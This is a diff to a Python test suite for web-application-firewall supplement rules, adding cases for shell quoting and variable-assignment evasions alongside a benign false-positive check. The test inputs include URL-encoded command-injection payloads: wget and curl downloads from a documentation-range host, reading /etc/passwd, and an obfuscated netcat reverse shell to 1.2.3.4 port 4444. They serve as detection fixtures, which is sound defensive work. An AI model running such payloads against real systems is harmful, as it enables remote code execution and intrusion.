@@ -258,6 +258,11 @@ def test_close_is_idempotent_and_final() -> None:
         (9999123, get("/p", "f=%2Fbin%2Fcat%20%2Fetc%2Fpasswd")),
         (9999123, get("/p", "ip=ping%20198.51.100.7")),
         (9999123, get("/", Cookie="wget http://198.51.100.7/x -O /tmp/x=1")),
+        # shell quoting inside the name and assignments before it, as 932150 caught them
+        (9999123, get("/p", "u=w%27g%27et%20http%3A%2F%2F198.51.100.7%2Fx")),
+        (9999123, get("/p", "u=%22curl%22%20-o%20x%20http%3A%2F%2F198.51.100.7%2Fy")),
+        (9999123, get("/p", "u=FOO%3D1%20curl%20-O%20x")),
+        (9999123, get("/p", "u=n%5Cc%20-e%20%2Fbin%2Fsh%201.2.3.4%204444")),
     ],
 )
 def test_supplement_rules_catch_what_crs_3_misses(
@@ -299,5 +304,6 @@ def test_supplement_leaves_everyday_text_alone(modsec_engine: Any) -> None:
         "q=head%20%26%20shoulders",
         "q=cat%20food%20for%20kittens",
         "q=more%20about%20us",
+        "q=sleep%20-5",  # a negative number is not an option
     ):
         assert not modsec_engine.inspect(get("/p", query)).would_block, query
